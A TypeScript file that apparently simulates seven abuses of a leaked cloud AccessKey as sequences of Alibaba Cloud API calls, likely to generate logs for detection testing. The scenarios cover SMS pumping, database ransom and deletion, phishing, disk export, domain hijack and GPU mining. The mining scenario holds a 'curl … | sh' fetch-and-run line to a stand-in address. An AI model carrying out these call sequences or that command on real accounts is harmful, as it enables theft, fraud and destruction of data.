import { bills } from './bills';
import type { Plot } from './history';
import { BUSY } from './second-attacks';
import { DAY_MS, HOUR_MS, rented, rentedAtHome } from './world';

/** Third round, committed before any result of its own: what thieves take, send, destroy and run. */
export const THIRD_RESOURCE_ATTACKS: Plot[] = [
  {
    name: 'model-key-resale',
    isAttack: true,
    kinds: ['persistence'],
    chores: BUSY,
    says: 'Keys for the model service, which the company does not use, were made to be sold on; they go on working without the AccessKey.',
    tell: (stage) => {
      const { dice } = stage.world;
      const raid = stage
        .raid(-dice.int(40, 60))
        .do('Sts.GetCallerIdentity')
        .do('ModelStudio.ListWorkspaces', {}, { region: 'ap-southeast-1' })
        .do('BssOpenApi.QueryAccountBalance');
      for (const Description of dice.some(['test', 'dev', 'bot', 'prod', 'api'], dice.int(2, 3))) {
        const ApiKeyId = `apikey-${dice.text(20)}`;
        raid.do(
          'ModelStudio.CreateTokenPlanKey',
          { AccountId: `acc-${dice.text(12)}`, Description },
          { region: 'ap-southeast-1', response: { ApiKeyId, Description } },
        );
        stage.took('model-key', ApiKeyId);
      }
      raid.wait(20).do('ModelStudio.ListTokenPlanKeys', {}, { region: 'ap-southeast-1' });
      stage.bills = bills(
        stage.world,
        [0, 1].map((daysAgo) => ({
          daysAgo,
          product: 'sfm',
          name: '大模型服务平台百炼',
          region: 'ap-southeast-1',
          amount: dice.int(700, 4000),
        })),
      );
    },
  },
  {
    name: 'sms-pumping',
    isAttack: true,
    kinds: ['messages'],
    chores: ['upload', 'watch'],
    says: "Six nights long login codes went to foreign number ranges under the company's own template, each night from another rented address; by day the shop sends a dozen codes.",
    tell: (stage) => {
      const { dice, start, leak, team, business } = stage.world;
      const TemplateCode = `SMS_${dice.digits(9)}`;
      for (let day = start; day < leak; day += DAY_MS)
        for (let n = dice.int(5, 20); n > 0; n--)
          stage
            .duty(Math.floor(day / DAY_MS) * DAY_MS + dice.int(0, 840) * 60_000)
            .do('Dysmsapi.SendSms', { PhoneNumbers: '139****0000', SignName: team, TemplateCode });
      for (let night = 6; night >= 1; night--) {
        const midnight = (Math.floor(leak / DAY_MS) - night) * DAY_MS + 17 * HOUR_MS;
        const raid = stage.raid((midnight - leak) / HOUR_MS, stage.thief({ agent: business.agent }), [10, 120]);
        const PhoneNumbers = dice.pick(['00880****000', '0092****000', '00994****000']);
        for (let n = dice.int(50, 90); n > 0; n--)
          raid.do('Dysmsapi.SendSms', { PhoneNumbers, SignName: team, TemplateCode });
      }
    },
  },
  {
    name: 'double-ransom',
    isAttack: true,
    kinds: ['destruction', 'database'],
    chores: BUSY,
    says: 'Objects were read and then removed, a note was left, the database was opened to the thief, its password changed, its databases and backups dropped.',
    tell: (stage) => {
      const { dice, bucket, databases } = stage.world;
      const DBInstanceId = databases[1] ?? '';
      const ofBucket = { resources: { 'ACS::OSS::Bucket': [bucket] } };
      const raid = stage.raid(-dice.int(2, 9)).do('Oss.ListBuckets').do('Oss.ListObjects', { bucketName: bucket });
      for (let n = dice.int(40, 110); n > 0; n--)
        raid.do('Oss.GetObject', { bucketName: bucket, objectName: `user/${dice.text(9)}.jpg` }, ofBucket);
      for (let n = dice.int(8, 20); n > 0; n--)
        raid.do('Oss.DeleteMultipleObjects', { bucketName: bucket, delete: '' }, ofBucket);
      raid
        .do('Oss.PutObject', { bucketName: bucket, objectName: 'README_TO_RECOVER.txt' }, ofBucket)
        .do('Rds.DescribeDBInstances')
        .do('Rds.DescribeAccounts', { DBInstanceId })
        .do('Rds.ModifySecurityIps', { DBInstanceId, SecurityIps: raid.actor.ip, DBInstanceIPArrayName: 'default' })
        .do('Rds.ResetAccountPassword', { DBInstanceId, AccountName: 'root', AccountPassword: '****' })
        .do('Rds.DeleteBackup', { DBInstanceId, BackupId: dice.digits(9) });
      for (const DBName of ['orders', 'users']) raid.do('Rds.DeleteDatabase', { DBInstanceId, DBName });
    },
  },
  {
    name: 'mailing-list-phishing',
    isAttack: true,
    kinds: ['messages'],
    chores: ['upload', 'watch'],
    says: "The shop's key sends a few order mails a day; a stranger added a sender and a list of receivers and mailed the whole list in three calls.",
    tell: (stage) => {
      const { dice, start, leak, domain } = stage.world;
      for (let day = start; day < leak; day += DAY_MS)
        for (let n = dice.int(2, 6); n > 0; n--)
          stage
            .duty(Math.floor(day / DAY_MS) * DAY_MS + dice.int(0, 840) * 60_000)
            .do('Dm.SingleSendMail', { AccountName: `order@${domain}`, ToAddress: '****', Subject: 'Your order' });
      const raid = stage
        .raid(-dice.int(2, 14), stage.thief({ ip: rentedAtHome(dice) }))
        .do('Dm.DescAccountSummary')
        .do('Dm.QueryDomainByParam')
        .do('Dm.CreateMailAddress', { AccountName: `security@${domain}`, Sendtype: 'batch' })
        .do('Dm.CreateReceiver', { ReceiversName: dice.text(6), ReceiversAlias: `${dice.text(6)}@${domain}` });
      for (let n = dice.int(8, 20); n > 0; n--) raid.do('Dm.SaveReceiverDetail', { Detail: '****' });
      for (let n = 3; n > 0; n--)
        raid.do('Dm.BatchSendMail', { AccountName: `security@${domain}`, TemplateName: 'verify', AddressType: '1' });
    },
  },
  {
    name: 'exported-disks',
    isAttack: true,
    kinds: ['data'],
    chores: BUSY,
    says: 'Disks were imaged, the images exported into a bucket made for it and downloaded, and the traces were removed.',
    tell: (stage) => {
      const { dice, business, instances } = stage.world;
      const store = `${dice.text(6)}-tmp`;
      const raid = stage
        .raid(-dice.int(20, 60), stage.thief({ ip: rentedAtHome(dice), agent: business.agent }), [20, 400])
        .do('Ecs.DescribeInstances')
        .do('Ecs.DescribeDisks')
        .do('Oss.PutBucket', { bucketName: store }, { resources: { 'ACS::OSS::Bucket': [store] } });
      const images = dice.some(instances, 2).map((InstanceId) => {
        const ImageId = `m-bp1${dice.text(17)}`;
        raid.do('Ecs.CreateImage', { InstanceId, ImageName: dice.text(8) }, { response: { ImageId } });
        return ImageId;
      });
      raid.wait(1);
      for (const ImageId of images) raid.do('Ecs.ExportImage', { ImageId, OSSBucket: store, OSSPrefix: 'e' });
      raid.wait(3).as(stage.thief({ ip: rented(dice) }));
      for (const ImageId of images)
        raid.do(
          'Oss.GetObject',
          { bucketName: store, objectName: `e_${ImageId}_system.raw.tar.gz` },
          { resources: { 'ACS::OSS::Bucket': [store] } },
        );
      for (const ImageId of images) raid.do('Ecs.DeleteImage', { ImageId });
      raid.do('Oss.DeleteBucket', { bucketName: store });
    },
  },
  {
    name: 'domain-hijack',
    isAttack: true,
    kinds: ['dns'],
    chores: BUSY,
    says: "The domain's name servers were changed at the registrar, its transfer lock opened and its transfer code drawn.",
    tell: (stage) => {
      const { dice, domain } = stage.world;
      const ns = dice.text(6);
      stage
        .raid(-dice.int(1, 30))
        .do('Domain.QueryDomainList', { PageNum: '1', PageSize: '50' })
        .do('Domain.QueryContactInfo', { DomainName: domain })
        .do('Domain.SaveBatchTaskForTransferProhibitionLock', { 'DomainName.1': domain, Status: 'false' })
        .do('Domain.SaveSingleTaskForQueryingTransferAuthorizationCode', { DomainName: domain })
        .do('Domain.SaveBatchTaskForModifyingDomainDns', {
          'DomainName.1': domain,
          AliyunDns: 'false',
          'DomainNameServer.1': `${ns}.ns.cloudflare.com`,
          'DomainNameServer.2': `${dice.text(5)}.ns.cloudflare.com`,
        })
        .do('Domain.QueryTaskDetailList', { TaskNo: dice.uuid().toLowerCase() });
    },
  },
  {
    name: 'same-cloud-miner',
    isAttack: true,
    kinds: ['compute'],
    chores: BUSY,
    says: "From another customer's server in the same cloud, with the same tool, spot GPU servers were bought in the company's own regions; the key itself starts one small server at a time.",
    tell: (stage) => {
      const { dice, business, regions } = stage.world;
      const ip = `47.${dice.int(92, 119)}.${dice.int(2, 250)}.${dice.int(2, 250)}`;
      const raid = stage.raid(-dice.int(6, 30), stage.thief({ ip, agent: business.agent }), [15, 90]);
      for (const region of regions) {
        raid.do('Ecs.DescribeAvailableResource', { DestinationResource: 'InstanceType' }, { region });
        for (let n = dice.int(2, 4); n > 0; n--)
          raid.do(
            'Ecs.RunInstances',
            {
              InstanceType: dice.pick(['ecs.gn7i-c16g1.4xlarge', 'ecs.gn6i-c24g1.12xlarge']),
              Amount: String(dice.int(3, 10)),
              SpotStrategy: 'SpotAsPriceGo',
              UserData: Buffer.from('#!/bin/sh\ncurl -sL http://198.51.100.23/s | sh').toString('base64'),
            },
            { region, response: { InstanceIdSets: { InstanceIdSet: [`i-bp1${dice.text(17)}`] } } },
          );
      }
      stage.bills = bills(stage.world, [
        { daysAgo: 0, product: 'ecs', name: '云服务器 ECS', region: regions[0] ?? '', amount: dice.int(1500, 6000) },
      ]);
    },
  },
];
